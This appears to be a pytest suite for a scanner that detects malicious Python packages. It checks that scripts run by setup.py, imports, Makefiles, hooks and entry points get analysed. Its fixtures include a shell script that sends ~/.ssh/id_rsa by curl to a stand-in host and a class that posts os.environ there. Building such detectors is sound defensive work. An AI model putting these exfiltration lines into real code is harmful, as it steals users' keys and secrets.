"""What code starts by its path is read at that moment: texts that are executed, scripts that a command names."""

from __future__ import annotations

import time
from pathlib import Path

import pytest

from scanner.code.analysis import Gap, analyse, started_earlier
from scanner.code.shell import read_hooks, read_makefile, read_shell, started_by
from scanner.code.source import SourceFile
from scanner.code.triggers import Layout
from scanner.model.finding import PackageRef
from tests.code.test_kinds import HONEST, STEALER, of_sdist, of_tree, of_wheel, places, runs_unread

SHELL = '#!/bin/sh\nKEY=$(cat ~/.ssh/id_rsa)\ncurl \\\n  -d "$KEY" https://collect.invalid/\n'
EXECUTED = [
    "exec(open('x.txt').read())",
    "from pathlib import Path\nexec(Path('x.txt').read_text())",
    "from pathlib import Path\nexec((Path(__file__).parent / 'x.txt').read_bytes())",
    "with open('x.txt') as opened:\n    exec(opened.read())",
    "exec(compile(open('x.txt', 'rb').read(), 'x.txt', 'exec'), {})",
    "import os\nhere = os.path.abspath(os.path.dirname(__file__))\nexec(open(os.path.join(here, 'x.txt')).read())",
    "import os\nexec(open(os.path.dirname(__file__) + '/x.txt').read())",
    "import os\nhere = os.path.dirname(__file__)\nexec(open(f'{here}/x.txt').read())",
    "def run(path):\n    exec(open(path).read())\nrun('x.txt')",
    "import runpy\nrunpy.run_path('x.txt')",
    "import imp\nimp.load_source('x', 'x.txt')",
    "import importlib.util\nimportlib.util.spec_from_file_location('x', 'x.txt')",
    "import subprocess, sys\nsubprocess.check_call([sys.executable, 'x.txt'])",
    "import os\nos.system('python3 -u ./x.txt --all')",
]


@pytest.mark.parametrize("code", EXECUTED)
def test_a_text_that_setup_executes_is_read_at_install(code: str) -> None:
    found = of_sdist({"setup.py": code, "x.txt": STEALER})
    assert found.verdict == "malicious"
    assert ("example-1.0/x.txt", 2) in places(found)
    assert "install" in {one.trigger for one in found.findings}
    assert of_sdist({"setup.py": code, "x.txt": HONEST}).verdict in {"clean", "noted"}


@pytest.mark.parametrize("code", EXECUTED)
def test_a_text_that_a_module_executes_is_read_at_import(code: str) -> None:
    found = of_wheel({"example/__init__.py": code, "example/x.txt": STEALER})
    assert found.verdict == "malicious"
    assert ("example/x.txt", 2) in places(found)


def test_package_data_that_is_executed_is_read() -> None:
    code = "import pkgutil\nexec(pkgutil.get_data('example', 'x.dat'))\n"
    assert of_wheel({"example/__init__.py": code, "example/x.dat": STEALER}).verdict == "malicious"
    assert of_wheel({"example/__init__.py": code.replace("'example'", "__name__"), "example/x.dat": STEALER}).findings


@pytest.mark.parametrize(
    "code",
    [
        "import subprocess\nsubprocess.run(['sh', 'tools/x.sh'])",
        "import os\nos.system('cd . && bash -e tools/x.sh')",
        "import os\nos.system('./tools/x.sh')",
        "import os\nos.system('sh tools/run')",
        "import subprocess\nsubprocess.run(['sh', 'tools/plain'])",
    ],
)
def test_a_shell_script_that_setup_starts_is_read(code: str) -> None:
    found = of_sdist({"setup.py": code, "tools/x.sh": SHELL, "tools/run": SHELL, "tools/plain": SHELL[10:]})
    assert "shell-line" in found.deciding_rules
    assert "install" in {one.trigger for one in found.findings if one.rule == "shell-line"}
    lines = {line for path, line in places(found) if path.startswith("example-1.0/tools/")}
    assert (2 if "plain" in code else 3) in lines
    honest = of_sdist(
        {"setup.py": code, "tools/x.sh": "#!/bin/sh\nmake all\n", "tools/run": "#!/bin/sh\nmake\n", "tools/plain": ""}
    )
    assert honest.verdict != "malicious"


def test_a_script_that_a_started_script_starts_is_read() -> None:
    files = {
        "setup.py": "import os\nos.system('sh a.sh')",
        "a.sh": "sh ./b.sh\n",
        "b.sh": "python c.txt\n",
        "c.txt": STEALER,
    }
    assert ("example-1.0/c.txt", 2) in places(of_sdist(files))


@pytest.mark.parametrize("data", [b"\0\1\2" * 100, b"# " + b"x" * 9_000_000])
def test_what_is_executed_and_not_read_is_a_gap_at_that_moment(data: bytes) -> None:
    found = of_sdist({"setup.py": "exec(open('x.txt').read())", "x.txt": data})
    assert runs_unread(found) == {"example-1.0/x.txt"}


def test_a_text_that_is_only_read_is_not_run(tmp_path: Path) -> None:
    code = "text = open('README.txt').read()\nprint(text)\n"
    assert of_sdist({"setup.py": code, "README.txt": STEALER}).verdict == "clean"
    assert of_tree(tmp_path, {"setup.py": "import os\nos.system('cat x.txt')", "x.txt": STEALER}).verdict != "malicious"


def test_lines_of_shell_stand_where_they_stood() -> None:
    text = read_shell(b"#!/bin/sh\nA=1 # x\necho \\\n $A\npython3 - <<EOF\nimport os\nEOF\ncat <<'X'\ncurl x\nX\nls\n")
    lines = text.text.split("\n")
    assert lines[2] == "shell_line('echo  1 # x')"
    assert "exec('import os')" in lines[4]
    assert lines[8] == "shell_line('curl x')"
    assert lines[10] == "shell_line('ls')"


def test_recipes_and_hooks() -> None:
    assert "shell_line('python tools/x')" in read_makefile(b"PY = python\nall:\n\t@$(PY) tools/x\n").text
    assert (
        "shell_line('python tools/x')" in read_hooks(b"    - {id: x, language: system, entry: python tools/x}\n").text
    )
    assert "shell_line('python tools/x')" in read_hooks(b"      - id: x\n        entry: 'python tools/x'\n").text
    assert ("tools/x", "python") in list(started_by("cd a; FOO=1 python3 -u tools/x --b"))
    assert ("a/b", "shell") in list(started_by("sudo bash -e a/b"))
    assert ("a/b", "shell") in list(started_by("echo; /bin/sh a/b"))


@pytest.mark.parametrize("command", ["tool update --source data.zip", "./tools.sh data.zip", "mk.dash data.zip"])
def test_data_that_a_program_is_given_is_not_started(command: str) -> None:
    assert "data.zip" not in [path for path, _ in started_by(command)]


def test_hostile_shell_costs_little() -> None:
    started = time.process_time()
    for line in (
        "$(" * 200_000,
        "a" * 500_000,
        "sudo " * 100_000,
        "X=1 " * 100_000,
        "<<" * 200_000,
        "A=" + "$A" * 200_000,
    ):
        list(started_by(line))
        for read in (read_shell, read_makefile, read_hooks):
            read((line + "\n" + line + "\\\n" + line).encode())
    read_shell(b"\\\n" * 200_000)
    list(started_by("x=1 " * 1000))
    list(started_by("a/" * 2000))
    assert time.process_time() - started < 10


@pytest.mark.parametrize(
    ("files", "place"),
    [
        ({"Makefile": "all:\n\tpython tools/x\n"}, "tools/x"),
        ({"Makefile": "RUN = python3\nall:\n\t@$(RUN) tools/x\n"}, "tools/x"),
        ({"build/rules.mk": "all:\n\tpython ./tools/x\n"}, "tools/x"),
        ({".pre-commit-config.yaml": "repos:\n- hooks:\n  - {id: x, entry: python tools/x}\n"}, "tools/x"),
        ({"start.sh": "#!/bin/bash\nexec python tools/x\n"}, "tools/x"),
        ({"tests/conftest.py": STEALER}, "tests/conftest.py"),
        ({"core/x.pyx": STEALER}, "core/x.pyx"),
    ],
)
def test_what_work_in_a_tree_starts_is_read(tmp_path: Path, files: dict[str, str], place: str) -> None:
    found = of_tree(tmp_path, {"tools/x": STEALER, **files})
    assert found.verdict == "malicious"
    assert place in {path for path, _ in places(found)}
    honest = {path: text.replace(STEALER, HONEST) for path, text in files.items()}
    assert of_tree(tmp_path, {"tools/x": HONEST, **honest}).verdict == "clean"


@pytest.mark.parametrize("path", ["example-1.0.data/scripts/example-tool", "example/run.sh"])
def test_a_shell_script_of_a_wheel_is_read(path: str) -> None:
    found = of_wheel({path: SHELL})
    assert found.deciding_rules == ("shell-line",)
    assert (path, 3) in places(found)
    usual = "#!/bin/sh\nset -e\ncurl -LsSf https://tool.invalid/install.sh | sh\nssh-keygen -f ~/.ssh/id_rsa\n"
    assert of_wheel({path: usual}).verdict == "clean"


def test_a_makefile_of_an_sdist_is_started_by_nobody_and_cython_with_types_is_compiled() -> None:
    files = {"Makefile": "all:\n\tpython tools/x\n", "tools/x": STEALER, "core/x.pyx": "cdef int x = 1\n"}
    found = of_sdist(files)
    assert found.verdict == "clean"
    assert not found.gaps


@pytest.mark.parametrize("group", ["pytest11", "distutils.commands", "mkdocs.plugins", "any.group"])
def test_what_any_group_of_entry_points_names_runs_from_an_entry_point(group: str) -> None:
    body = "def hook():\n" + "".join(f"    {line}\n" for line in STEALER.splitlines())
    table = f"[{group}]\nls = example.plug:hook\n"
    found = of_wheel({"example/plug.py": body, "example-1.0.dist-info/entry_points.txt": table})
    assert found.verdict == "malicious"
    assert {one.trigger for one in found.findings} == {"entry-point"}
    honest = {"example/plug.py": "def hook():\n    pass\n", "example-1.0.dist-info/entry_points.txt": table}
    assert of_wheel(honest).verdict == "clean"


@pytest.mark.parametrize("path", ["big.py", "tests/big.py", "tools/many/big.py"])
def test_a_large_file_that_setup_imports_is_read(path: str) -> None:
    dotted = path.removesuffix(".py").replace("/", ".")
    found = of_sdist({"setup.py": f"import {dotted}\n", path: "# " + "x" * 420_000 + "\n" + STEALER})
    assert found.verdict == "malicious"
    assert "install" in {one.trigger for one in found.findings}
    started = of_sdist({"setup.py": f"import os\nos.system('python {path}')\n", path: "#" * 420_000 + "\n" + STEALER})
    assert "install" in {one.trigger for one in started.findings}


def test_the_last_of_many_modules_that_setup_imports_is_read() -> None:
    modules = {f"tests/m{number:03}.py": "VALUE = 1\n" for number in range(200)}
    code = "".join(f"import tests.m{number:03}\n" for number in range(200)) + "import tests.last\n"
    found = of_sdist({"setup.py": code, **modules, "tests/last.py": STEALER})
    assert "install" in {one.trigger for one in found.findings}


def test_what_is_imported_past_the_bound_is_a_gap_at_that_moment() -> None:
    found = of_sdist({"setup.py": "import tests.x\n", "tests/x.py": STEALER}, max_reached_bytes=10)
    assert runs_unread(found) == {"example-1.0/tests/x.py"}


def test_each_of_several_files_that_a_path_could_mean_is_read() -> None:
    code = "import os, sys\nexec(open(os.path.join(sys.argv[0], 'x.txt')).read())\n"
    found = of_sdist({"setup.py": code, "a/x.txt": HONEST, "b/x.txt": STEALER})
    assert ("example-1.0/b/x.txt", 2) in places(found)


@pytest.mark.parametrize("path", ["x.pth", "settings/pyproject.toml"])
def test_what_is_no_source_by_its_name_is_read_where_it_is_executed(path: str) -> None:
    found = of_sdist({"setup.py": f"exec(open('{path}').read())\n", path: f"if 1:\n    pass\n{STEALER}"})
    assert "install" in {one.trigger for one in found.findings if one.severity == "critical"}


@pytest.mark.parametrize(
    "script",
    [
        "true " + "x" * 9_000 + "; python c.txt\n",
        "A=" + "x" * 5_000 + "\n" + "true;" * 60 + "python c.txt\n",
        "true " + "x " * 40_000 + "; python c.txt\n",
        "python3 -c '\n" + STEALER.replace("'", '"') + "'\n",
        "cat <<'END OF IT' > /dev/null\nx\nEND OF IT\npython c.txt\n",
        "python - <<EOF\nx = '''\n  EOF\n'''\n" + STEALER + "EOF\n",
        "cat <<EOF | python3\n" + STEALER + "EOF\n",
        "python3 <<< '" + STEALER.replace("'", '"') + "'\n",
        "python " + "-u " * 60 + "- <<EOF\n" + STEALER + "EOF\n",
        "python3 - <<EOF\n" + STEALER,
        "echo $((1<<X))\npython c.txt\n",
        "B=" + "./" * 300 + "c.txt\npython $B\n",
    ],
)
def test_a_long_or_odd_line_of_shell_hides_nothing(script: str) -> None:
    found = of_sdist({"setup.py": "import os\nos.system('sh a.sh')", "a.sh": script, "c.txt": STEALER})
    assert found.verdict == "malicious" and "install" in {one.trigger for one in found.findings}


def test_a_line_of_shell_past_the_bound_is_a_gap() -> None:
    code = "import os\nos.system('sh a.sh')"
    assert runs_unread(of_sdist({"setup.py": code, "a.sh": "echo " + "x" * 70_000 + "\n"})) == {"example-1.0/a.sh"}
    assert runs_unread(of_sdist({"setup.py": "import os\nos.system('true;' * 2000)"})) == {"example-1.0/setup.py"}
    assert runs_unread(of_sdist({"setup.py": "import os\nos.system('x' * 70000)"})) == {"example-1.0/setup.py"}


@pytest.mark.parametrize(
    ("path", "data"),
    [
        ("model.pkl", b"\x80\x04cos\nsystem"),
        ("plugins.zip", b"PK\x03\x04 and nothing more"),
        ("go.sh", b"#" * 9_000_000),
    ],
)
def test_what_running_source_names_and_is_not_read_is_a_gap_at_that_moment(path: str, data: bytes) -> None:
    named = f"PLACE = {path!r}\n"
    assert runs_unread(of_wheel({"example/__init__.py": named, f"example/{path}": data})) == {f"example/{path}"}
    assert runs_unread(of_wheel({"example/__init__.py": "VALUE = 1\n", f"example/{path}": data})) == set()


@pytest.mark.parametrize(
    "code",
    [
        "import subprocess\nsubprocess.run(['sh', 'x'])\n",
        "import os\nos.system('bash x')\n",
        "import subprocess, sys\nsubprocess.run([sys.executable, 'y'])\n",
        "import subprocess\nsubprocess.run(['python3', 'y'])\n",
        "e = exec\ne(open('y').read())\n",
    ],
)
def test_what_an_import_starts_by_its_path_is_read(code: str) -> None:
    found = of_wheel({"example/__init__.py": code, "example/x": SHELL[10:], "example/y": STEALER})
    assert "import" in {one.trigger for one in found.findings}
    assert {path for path, _ in places(found)} & {"example/x", "example/y"}


TEMPLATE = """\
import os, urllib.request
class Template:
    def __repr__(self):
        urllib.request.urlopen("https://collect.invalid/?" + str(dict(os.environ)))
        return ""
"""


@pytest.mark.parametrize(
    ("rest", "moment"),
    [
        ("Template()\n", "import"),
        ('if __name__ == "__main__":\n    Template()\n', "entry-point"),
        ('if __name__ == "__main__":\n    Template()\nTemplate()\n', "import"),
    ],
)
def test_what_python_calls_of_an_instance_runs_at_the_moment_at_which_it_was_made(rest: str, moment: str) -> None:
    # Regression: numpy and scipy ship a template engine whose own command line evaluates what the file says.
    found = analyse(
        [SourceFile("demo/__init__.py", (TEMPLATE + rest).encode())], kind="wheel", package=PackageRef("demo", "1.0")
    ).findings
    assert {one.trigger for one in found if one.rule == "environment-sent"} == {moment}


@pytest.mark.parametrize(
    "start", ["subprocess.run(['sh', 'x'])", "subprocess.run(['python3', 'x'])", "os.system('./x')"]
)
def test_the_first_bytes_of_a_program_do_not_hide_a_script(start: str) -> None:
    # A shell goes over ``MZ=1`` and a null byte to what follows.
    found = of_wheel(
        {"example/__init__.py": f"import os, subprocess\n{start}\n", "example/x": b"MZ=1\n\0\n" + SHELL[10:].encode()}
    )
    assert found.findings or runs_unread(found)


def test_very_many_unread_files_are_looked_for_in_bounded_time(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("scanner.code.analysis.MAX_SEARCHED", 1_000)
    gaps = [Gap(f"example/data/{number}.pkl", "it was not read", "call") for number in range(100)]
    moved = started_earlier(gaps, Layout("wheel"), [SourceFile("example/__init__.py", b"value = 1\n" * 100)])
    assert {one.trigger for one in moved} == {"import"}
